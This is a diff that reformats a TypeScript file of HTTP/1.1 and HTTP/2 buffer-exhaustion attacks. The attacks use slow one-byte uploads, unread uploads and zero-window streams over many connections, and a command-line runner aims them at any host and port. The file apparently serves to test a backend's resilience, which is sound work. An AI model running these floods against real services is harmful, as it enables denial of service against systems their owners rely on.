@@ -26,8 +26,10 @@ export interface BufferAttack {
   readonly small: number;
 }
 
-const head = (method: string, path: string): Buffer => literal([':method', method], [':scheme', 'http'], [':path', path], [':authority', 'a']);
-const headers = (flags: number, method: string, path: string): Buffer => Buffer.concat(numbers.map((stream) => frame('headers', flags | endHeaders, stream, head(method, path))));
+const head = (method: string, path: string): Buffer =>
+  literal([':method', method], [':scheme', 'http'], [':path', path], [':authority', 'a']);
+const headers = (flags: number, method: string, path: string): Buffer =>
+  Buffer.concat(numbers.map((stream) => frame('headers', flags | endHeaders, stream, head(method, path))));
 const setting = (id: number, value: number): Buffer => {
   const payload = Buffer.alloc(6);
   payload.writeUInt16BE(id);
@@ -39,40 +41,81 @@ const initialWindow = 4;
 /** Attacks by name, for the backend in `deaf-backend.ts`. */
 export const bufferAttacks: Readonly<Record<string, BufferAttack>> = {
   'HTTP/2 uploads that the backend does not take': {
-    connections: 40, few: 2, spacing: 100, size: 256 * 1024, small: 64 * 1024,
+    connections: 40,
+    few: 2,
+    spacing: 100,
+    size: 256 * 1024,
+    small: 64 * 1024,
     open: ({ host, port }, size) => {
-      const session = connectHttp2(`http://${host}:${port}`, { createConnection: () => connect({ host, port, localAddress: attackerAddress }) }).on('error', () => undefined);
+      const session = connectHttp2(`http://${host}:${port}`, {
+        createConnection: () => connect({ host, port, localAddress: attackerAddress }),
+      }).on('error', () => undefined);
       const body = Buffer.alloc(size);
-      for (let count = 0; count < streams; count += 1) session.request({ ':method': 'POST', ':path': '/deaf', ':authority': 'a' }, { endStream: false }).on('error', () => undefined).write(body);
+      for (let count = 0; count < streams; count += 1)
+        session
+          .request({ ':method': 'POST', ':path': '/deaf', ':authority': 'a' }, { endStream: false })
+          .on('error', () => undefined)
+          .write(body);
       return () => session.destroy();
     },
   },
   'HTTP/2 uploads in DATA frames of one byte': {
-    connections: 8, few: 1, spacing: 5, size: 4_000, small: 20,
+    connections: 8,
+    few: 1,
+    spacing: 5,
+    size: 4_000,
+    small: 20,
     open: (at, rounds) => {
       const round = Buffer.concat(numbers.map((stream) => frame('data', 0, stream, Buffer.alloc(1))));
-      return send(at, Buffer.concat([preface, headers(0, 'POST', '/deaf')]), Array.from({ length: rounds }, () => round));
+      return send(
+        at,
+        Buffer.concat([preface, headers(0, 'POST', '/deaf')]),
+        Array.from({ length: rounds }, () => round),
+      );
     },
   },
   'HTTP/1.1 uploads in chunks of one byte': {
-    connections: 2_000, few: 8, spacing: 2, size: 10_000, small: 10_000,
-    open: (at, chunks) => send(at, Buffer.from(`POST /deaf HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n${'1\r\nx\r\n'.repeat(chunks)}`), []),
+    connections: 2_000,
+    few: 8,
+    spacing: 2,
+    size: 10_000,
+    small: 10_000,
+    open: (at, chunks) =>
+      send(
+        at,
+        Buffer.from(
+          `POST /deaf HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n${'1\r\nx\r\n'.repeat(chunks)}`,
+        ),
+        [],
+      ),
   },
   'HTTP/2 responses to a client with a window of 0': {
-    connections: 100, few: 2, spacing: 5, size: 1, small: 1,
-    open: (at) => send(at, Buffer.concat([preface, setting(initialWindow, 0), headers(endStream, 'GET', '/piece')]), []),
+    connections: 100,
+    few: 2,
+    spacing: 5,
+    size: 1,
+    small: 1,
+    open: (at) =>
+      send(at, Buffer.concat([preface, setting(initialWindow, 0), headers(endStream, 'GET', '/piece')]), []),
   },
 };
 
 function send({ host, port }: Place, first: Buffer, more: readonly Buffer[]): () => void {
   const socket: Socket = connect({ host, port, localAddress: attackerAddress });
-  socket.on('error', () => undefined).resume().write(first);
+  socket
+    .on('error', () => undefined)
+    .resume()
+    .write(first);
   for (const bytes of more) socket.write(bytes);
   return () => socket.destroy();
 }
 
 /** Makes an attack with so many connections until `duration` milliseconds are over. */
-export async function attackBuffers({ open, spacing }: BufferAttack, at: Place, { connections, size, duration }: { readonly connections: number; readonly size: number; readonly duration: number }): Promise<void> {
+export async function attackBuffers(
+  { open, spacing }: BufferAttack,
+  at: Place,
+  { connections, size, duration }: { readonly connections: number; readonly size: number; readonly duration: number },
+): Promise<void> {
   const end = performance.now() + duration;
   const ends: (() => void)[] = [];
   for (let count = 0; count < connections; count += 1) {
@@ -87,6 +130,10 @@ if (process.argv[1]?.endsWith('buffer-attacks.ts') === true) {
   const [name = '', host = '', port, duration] = process.argv.slice(2);
   const attack = bufferAttacks[name];
   if (attack === undefined) throw new Error(`no attack is called ${name}`);
-  await attackBuffers(attack, { host, port: Number(port) }, { connections: attack.connections, size: attack.size, duration: Number(duration) });
+  await attackBuffers(
+    attack,
+    { host, port: Number(port) },
+    { connections: attack.connections, size: attack.size, duration: Number(duration) },
+  );
   process.exit();
 }
